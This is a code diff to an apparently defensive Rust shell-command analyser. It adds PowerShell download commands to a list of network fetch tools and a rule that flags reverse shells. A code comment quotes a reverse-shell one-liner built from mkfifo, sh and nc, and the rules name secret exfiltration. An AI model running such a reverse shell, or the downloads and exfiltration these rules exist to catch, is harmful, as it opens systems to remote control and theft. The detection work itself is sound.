@@ -30,9 +30,8 @@ pub(super) fn kind(text: &[u8]) -> Flow {
 pub(super) fn judge<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]> + Clone, input: Flow) -> (Option<Builtin>, Flow) {
     let has = |flag: &[u8]| args.clone().any(|arg| arg == flag);
     match name {
-        b"curl" | b"wget" | b"fetch" | b"aria2c" | b"http" | b"https" | b"xh" => {
-            (sends(name, args.clone(), input), Flow::Download)
-        }
+        b"curl" | b"wget" | b"fetch" | b"aria2c" | b"http" | b"https" | b"xh" | b"iwr" | b"irm" | b"invoke-webrequest"
+        | b"invoke-restmethod" => (sends(name, args.clone(), input), Flow::Download),
         b"base64" | b"base32" | b"basenc" => {
             let decodes = args.clone().any(|arg| matches!(arg, b"-d" | b"-D" | b"--decode" | b"-di" | b"--decode=true"));
             (None, if decodes { Flow::Decoded } else { input })
@@ -305,8 +304,11 @@ const HOSTED: &[&[u8]] = &[
 ];
 
 fn connects<'a>(name: &[u8], args: impl Iterator<Item = &'a [u8]> + Clone, input: Flow) -> Option<Builtin> {
-    if input == Flow::Secret {
-        return Some(Builtin::ShellExfiltration);
+    match input {
+        Flow::Secret => return Some(Builtin::ShellExfiltration),
+        // `mkfifo f; cat f | sh -i | nc host port > f`
+        Flow::Session => return Some(Builtin::ShellReverse),
+        _ => {}
     }
     let runs = args.clone().any(|arg| match name {
         b"socat" => {
